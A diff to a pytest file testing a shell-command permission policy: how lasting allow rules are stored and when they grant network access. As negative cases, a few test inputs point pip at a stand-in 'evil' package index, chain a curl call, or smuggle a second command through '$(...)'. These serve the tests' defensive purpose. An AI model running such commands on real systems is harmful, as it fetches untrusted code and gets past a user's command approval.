@@ -1,10 +1,13 @@
 """Rules speak of what a command runs, not of how it is written."""
 
+from collections.abc import Iterable
+
 import pytest
+from msgspec.structs import replace
 
 from overt.core.settings import Action, Rule
 from overt.safety.policy import Sight, subject_of
-from overt.safety.rules import Subject, lasting, speaks_of
+from overt.safety.rules import Subject, lasting, matching, opens_network, speaks_of
 
 
 def bash(command: str) -> Subject:
@@ -73,26 +76,90 @@ def test_a_command_that_writes_nothing_is_no_edit() -> None:
     assert speaks_of(rule("deny", "edit"), bash("echo x > a"))
 
 
+def texts(rules: Iterable[Rule]) -> list[str]:
+    return [f"{'exactly ' if each.exact else ''}{each.shown()}" for each in rules]
+
+
 @pytest.mark.parametrize(
-    ("command", "pattern"),
+    ("command", "stored"),
     [
-        ("pytest -q tests/a.py", "pytest:*"),
-        ("npm run lint", "npm run lint:*"),
-        ("git commit -m x", "git commit:*"),
-        ("make", "make:*"),
-        ("python -m pytest -x", "python -m pytest -x"),
-        ("python tool.py", "python tool.py"),
-        ("npx eslint .", "npx eslint ."),
-        ("./build.sh", "./build.sh"),
-        ("make && make test", "make && make test"),
-        ("pytest > new.log", "pytest > new.log"),
-        ("env A=1 make", "env A=1 make"),
-        ("touch 'a b'", "touch 'a b'"),
-        ("touch x:*", ""),
+        ("pytest -q tests/a.py", ["bash(pytest *)"]),
+        ("ls -la && .venv/bin/pytest tests -q 2>&1 | tail -3", ["bash(.venv/bin/pytest *)"]),
+        ("cd sub && /w/sub/run -k 'a or b' > /dev/null | head", ["bash(/w/sub/run *)"]),
+        ("npm run lint", ["bash(npm run lint *)"]),
+        ("git commit -m x", ["bash(git commit *)"]),
+        ("make", ["bash(make *)"]),
+        ("make && cargo test", ["bash(make *)", "bash(cargo test *)"]),
+        ("git status; make test; make test", ["bash(make test *)"]),
+        ("./build.sh", ["bash(./build.sh *)"]),
+        ("touch 'a b'", ["bash(touch *)"]),
+        ("../build.sh", ["exactly bash(../build.sh)"]),
+        ("python -m pytest -x", ["exactly bash(python -m pytest -x)"]),
+        ("python3.11 tool.py", ["exactly bash(python3.11 tool.py)"]),
+        (".venv/bin/python tool.py", ["exactly bash(.venv/bin/python tool.py)"]),
+        ("ipython tool.py", ["exactly bash(ipython tool.py)"]),
+        ("tsx a.ts", ["exactly bash(tsx a.ts)"]),
+        ("make -f other.mk", ["exactly bash(make -f other.mk)"]),
+        ("go run ./cmd", ["exactly bash(go run ./cmd)"]),
+        ("poetry run python x.py", ["exactly bash(poetry run python x.py)"]),
+        ("npx eslint .", ["exactly bash(npx eslint .)"]),
+        ("pytest > new.log", ["exactly bash(pytest > new.log)"]),
+        ("env A=1 make", ["exactly bash(env A=1 make)"]),
+        ("A=1 make", ["exactly bash(A=1 make)"]),
+        ("make && python x.py", ["exactly bash(make && python x.py)"]),
+        ("make \"$(cargo test)\"", ["exactly bash(make \"$(cargo test)\")"]),
+        ("python x.py *", []),
+        ("python x.py:*", []),
+    ],
+)  # fmt: skip
+def test_always_offers_rules_for_the_parts_that_are_not_harmless(command: str, stored: list[str]) -> None:
+    rules = lasting(bash(command))
+    assert texts(rules) == stored
+    assert not rules or matching(rules, bash(command), "allow")
+
+
+def test_always_with_the_network_stores_the_exact_command() -> None:
+    for command in ("pip install requests", "npm install", "git push"):
+        rules = lasting(bash(command), network=True)
+        assert texts(rules) == [f"exactly bash({command}) with the network"]
+        assert opens_network(rules, bash(command))
+        assert not opens_network(rules, bash(f"{command} --index-url http://evil/ x"))
+
+
+def test_rules_for_several_parts_allow_a_line_together_and_nothing_else() -> None:
+    rules = lasting(bash("make && cargo test | tail"))
+    for command in ("cargo test; make", "ls && make all", "cargo test -q | head"):
+        assert matching(rules, bash(command), "allow")
+    for command in ("make && cargo build", "make > new", "make -f evil.mk", "make && cargo test && touch x"):
+        assert matching(rules, bash(command), "allow") is None
+
+
+NPM = Rule(action="allow", tool="bash", pattern="npm *", network=True)
+
+
+@pytest.mark.parametrize(
+    ("command", "opened"),
+    [
+        ("npm install", True),
+        ("cd sub && npm ci | tail -3", True),
+        ("npm test", True),
+        ("npm install && make", False),
+        ("npm install && curl https://example.com", False),
+        ("npm install > new.log", False),
+        ("pip install x", False),
+        ('npm install "$(pip download x)"', False),
     ],
 )
-def test_always_stands_for_commands_that_begin_alike_only_where_that_says_enough(command: str, pattern: str) -> None:
-    assert lasting(bash(command)) == pattern
+def test_a_rule_opens_the_network_only_for_lines_that_it_covers(command: str, opened: bool) -> None:
+    assert opens_network((NPM,), bash(command)) is opened
+    assert not opens_network((replace(NPM, network=False),), bash(command))
+
+
+def test_stored_rules_of_older_versions_open_no_network_by_their_beginning() -> None:
+    prefix = Rule(action="allow", tool="bash", pattern="pip install:*", origin="always")
+    exact = Rule(action="allow", tool="bash", pattern="pip install x", origin="always", exact=True)
+    assert matching((prefix,), bash("pip install x"), "allow") and not opens_network((prefix,), bash("pip install x"))
+    assert opens_network((exact,), bash("pip install x")) and not opens_network((exact,), bash("pip install x y"))
 
 
 def test_a_rule_for_commands_that_begin_alike_opens_nothing_else() -> None:
